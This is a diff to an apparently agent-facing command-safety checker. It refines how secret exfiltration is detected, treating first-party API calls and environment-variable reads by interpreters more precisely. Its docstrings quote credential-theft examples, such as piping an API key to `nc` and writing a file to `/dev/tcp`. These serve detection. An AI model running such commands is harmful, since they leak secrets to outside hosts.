@@ -1319,11 +1319,37 @@ def _login_hosts(action: Action) -> frozenset[str]:
 
 def _first_party_use(action: Action) -> bool:
     """A credential that does not say whose it is, in a request to a service's own API host that carries
-    nothing else (`curl -H "Authorization: Token token=..." https://api.pagerduty.com/incidents`): only
-    that service reads it, and nothing of the session's goes into whatever account it opens."""
+    nothing else (`curl -H "Authorization: Token token=..." https://api.pagerduty.com/incidents`) or only
+    what the line writes out (`-X PATCH -d '{"buildCommand": "..."}'`): only that service reads it, and
+    nothing of the session's (a file, a variable, a command's output) goes into whatever account it opens.
+    A secret in the written body is still found there: only the credential headers' values are its use."""
     from limen.floors.egress import carries_nothing
 
-    return all(first_party_api(d.host) for d in action.destinations) and carries_nothing(action)
+    if not all(first_party_api(d.host) for d in action.destinations):
+        return False
+    return carries_nothing(action) or _writes_out_only(action)
+
+
+def _writes_out_only(action: Action) -> bool:
+    """Every request of the line is curl's or wget's with what it sends written out in it: no file (`-d
+    @f`, `-T`, `-F x=@f`), no variable or substitution, no input piped in, nothing opaque; what else the
+    line runs only reads the answer (`| jq .id`)."""
+    if action.opaque or action.paths or action.write_paths or not action.commands or not action.payloads:
+        return False
+    for command in action.commands:
+        sender = command.name in ("curl", "wget")
+        if (
+            command.dynamic_name
+            or (sender and command.via)
+            or not (sender or command.name in _ANSWER_READERS)
+        ):
+            return False
+    return sum(map(len, action.payloads)) <= 4096 and not any(
+        p.startswith("@") or "$" in p or "`" in p or "=@" in p for p in action.payloads
+    )
+
+
+_ANSWER_READERS = frozenset({"jq", "head", "tail", "grep"})
 
 
 def _named_issuers(action: Action, kinds: set[str]) -> set[str]:
@@ -1942,17 +1968,22 @@ _SECRET_READERS = (
 
 # Commands that carry data to the host they reach (DNS lookups only name one; `git` pushes a repository).
 from limen.facts.programs import Role as _Role  # noqa: E402  (the program table, asked by role)
+from limen.facts.programs import has as _has  # noqa: E402
 from limen.facts.programs import names as _names  # noqa: E402
 
 _SENDERS = _names(_Role.SENDS)
+from limen.normalize.code import VARIABLE_NOTE as _VARIABLE_NOTE  # noqa: E402
 
 
 def _environment_credentials_sent(action: Action, ctx: Context) -> list[str]:
     """`curl -d "k=$AWS_SECRET_ACCESS_KEY" URL`, `echo "$OPENAI_API_KEY" | nc host 80`: a credential the
     environment holds by convention, written into a line that sends to an untrusted host which is not its
-    issuer (sending `$GITHUB_TOKEN` to api.github.com is its use). Variables whose issuer is unknown are
-    left to the destination rules."""
-    line = action.command_line
+    issuer (sending `$GITHUB_TOKEN` to api.github.com is its use). A program's read of the variable by name
+    (`os.environ["STRIPE_SECRET_KEY"]`, `Deno.env.get(...)`: `VARIABLE_NOTE`) counts as the line's `$NAME`,
+    and the requests the program makes as the line's sends. Variables whose issuer is unknown are left to
+    the destination rules."""
+    read = [n[len(_VARIABLE_NOTE) :] for n in action.notes if n.startswith(_VARIABLE_NOTE)]
+    line = action.command_line + "".join(f" ${name}" for name in read)
     if "$" not in line:
         return []
     issuers = issuers_of_credentials(line)
@@ -1961,7 +1992,9 @@ def _environment_credentials_sent(action: Action, ctx: Context) -> list[str]:
     outside = [
         d
         for d in action.destinations
-        if d.via_command in _SENDERS and d.host_class is not HostClass.LOOPBACK and not _ours(d, action, ctx)
+        if (d.via_command in _SENDERS or (read and _has(d.via_command, _Role.INTERPRETER)))
+        and d.host_class is not HostClass.LOOPBACK
+        and not _ours(d, action, ctx)
     ]
     # every credential named must be bound for where the line sends (`$DISCORD_TOKEN` in the header to
     # discord.com is its use; `$AWS_SECRET_ACCESS_KEY` in the same request's body is not)
@@ -1991,8 +2024,14 @@ _HANDS_OVER = frozenset({"publishes", "foreign_remote"})
 
 def _sends(via: str, action: Action) -> bool:
     """A destination reached by a program that sends (curl, nc, scp), or by an interpreter's program that
-    opened a socket to it (`socket:python`: the connection carries whatever the program writes)."""
-    return via in _SENDERS or via == "/dev/tcp" or f"socket:{via}" in action.notes  # `cat f > /dev/tcp/h/p`
+    opened a socket to it (`socket:python`: the connection carries whatever the program writes) or that read
+    an environment variable by name (its requests may carry it, as a line's curl may carry `$NAME`)."""
+    return (
+        via in _SENDERS
+        or via == "/dev/tcp"  # `cat f > /dev/tcp/h/p`
+        or f"socket:{via}" in action.notes
+        or (_has(via, _Role.INTERPRETER) and any(n.startswith(_VARIABLE_NOTE) for n in action.notes))
+    )
 
 
 @rule(ReasonCode.SECRET_EXFILTRATION, needs="acting")
